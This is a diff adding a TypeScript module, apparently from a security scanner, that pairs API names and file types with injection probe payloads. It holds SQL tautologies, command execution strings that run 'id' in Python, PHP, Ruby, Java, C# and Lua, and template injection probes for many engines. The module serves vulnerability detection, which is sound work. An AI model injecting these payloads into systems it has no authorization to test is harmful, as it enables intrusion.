@@ -1,0 +1,49 @@
+/** How the same is said in the languages that payloads are written in: commands, templates, databases' own languages. */
+
+/** Calls that take a part of a statement, by the ends of their names. */
+export const partsOfStatements: readonly (readonly [api: RegExp, value: string, where: string])[] = [
+  [
+    /(?:order|group|pluck|column)\w*$|\.Arel\.sql$|^Arel\.sql$/i,
+    '(CASE WHEN (1=1) THEN 1 ELSE 2 END)',
+    'as an expression of the statement',
+  ],
+  [/(?:where|having|exists\?|find_by|destroy_by|extra)\w*$/i, '1=1', 'as a condition of the statement'],
+];
+
+/** How a command is run in the language of a file, and how texts are joined there. */
+export const commands: readonly (readonly [file: RegExp, expression: string, join: string])[] = [
+  [/\.pyw?$/, `__import__('os').popen('id').read()`, '+'],
+  [/\.(?:php\d?|phtml|inc)$/, `shell_exec('id')`, '.'],
+  [/\.(?:rb|erb|haml|slim|rake)$/, '`id`', '+'],
+  [/\.(?:java|jsp|kt|groovy)$/, 'T(java.lang.Runtime).getRuntime().exec("id")', '+'],
+  [/\.(?:cs|cshtml|aspx)$/, 'System.Diagnostics.Process.Start("id")', '+'],
+  // What Go programs evaluate reaches no more than it is given.
+  [/\.go$/, '7*7', '+'],
+];
+
+/** Code of another language than the file's: what runs it is known by its name. */
+export const embedded: typeof commands = [
+  [/redis/i, `redis.call('INFO')`, '..'],
+  [/\blua\b|LState|\b(?:NLua|MoonSharp)\b/, 'os.execute("id")', '..'],
+  [/\bIronPython\b|Microsoft\.Scripting\b/, `__import__('os').system('id')`, '+'],
+];
+
+/** Expression languages of Java name types in ways of their own: Spring's as it is written above, OGNL's `@type@`. */
+export function inDialect(written: string, sinkApi: string): string {
+  if (/ognl|xwork/i.test(sinkApi)) return written.replace(/T\(([\w.]+)\)\./, '@$1@');
+  return /spel|springframework/i.test(sinkApi) ? written : written.replace(/T\(([\w.]+)\)/, '$1');
+}
+
+/** What shows 49 in the template engine that a call belongs to. */
+export const templateDialects: readonly (readonly [engine: RegExp, value: string])[] = [
+  [/ejs|lodash|underscore|eta|erub|(?:^|\.)erb$|AbstractController|ActionView/i, '<%= 7*7 %>'],
+  [/pug|jade|haml|slim/i, '#{7*7}'],
+  [/freemarker|mako|chameleon|genshi/i, `\${7*7}`],
+  [/velocity/i, '#set($x=7*7)$x'],
+  [/thymeleaf/i, `[[\${7*7}]]`],
+  [/groovy|ConstraintValidatorContext/i, `\${7*7}`],
+  [/text\/template|html\/template/, '{{printf "%d" 49}}'],
+];
+
+/** Whether a header belongs to a mail. */
+export const isMail = /smtp|mail/i;
